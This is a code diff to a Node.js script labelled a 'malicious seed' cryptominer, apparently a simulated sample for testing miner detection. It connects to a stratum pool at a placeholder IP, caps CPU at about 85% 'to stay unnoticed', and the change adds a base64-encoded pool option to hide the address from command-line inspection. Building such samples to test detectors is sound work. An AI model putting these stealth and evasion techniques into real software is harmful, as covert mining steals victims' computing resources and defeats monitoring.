@@ -1,7 +1,8 @@
 // Malicious seed 4: a cryptominer. One long-lived stratum connection to the pool (subscribe, authorize, jobs pushed
 // with mining.notify, a share submitted now and then) and a hashing loop in a worker thread of the same process.
 // The pool comes from --pool host:port (no stratum+tcp URL on the command line, as with a config-file miner).
-// Usage: node miner.mjs --seed N --pool 203.0.113.77:3333 --log FILE
+// --pool-b64 gives it base64-encoded instead (a name the miner resolves itself; nothing readable on its command line).
+// Usage: node miner.mjs --seed N (--pool 203.0.113.77:3333 | --pool-b64 BASE64) --log FILE
 import net from 'node:net';
 import { Worker } from 'node:worker_threads';
 import { args, rng, seedFor, ready, logger, onStop, lifetime } from './lib.mjs';
@@ -9,7 +10,8 @@ import { args, rng, seedFor, ready, logger, onStop, lifetime } from './lib.mjs';
 const opt = args();
 const r = rng(seedFor(opt.seed ?? 1, 'miner'));
 const log = logger(opt.log);
-const [host, portText] = (opt.pool ?? '203.0.113.77:3333').split(':');
+const pool = opt['pool-b64'] ? Buffer.from(opt['pool-b64'], 'base64').toString('utf8') : opt.pool ?? '203.0.113.77:3333';
+const [host, portText] = pool.split(':');
 lifetime(opt['max-life-ms'] ?? 120_000);
 
 // The hashing loop: SHA-256 over a nonce, busy ~85% of the time (a miner capped below 100% to stay unnoticed).
@@ -43,6 +45,7 @@ let buf = '';
 let jobs = 0;
 const send = (o) => c.write(`${JSON.stringify(o)}\n`);
 c.on('connect', () => {
+  log({ kind: 'connected', pool: `${host}:${portText}`, address: c.remoteAddress });
   send({ id: id++, method: 'mining.subscribe', params: ['xmrig/6.21.0'] });
   send({ id: id++, method: 'mining.authorize', params: ['4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx.rig1', 'x'] });
 });
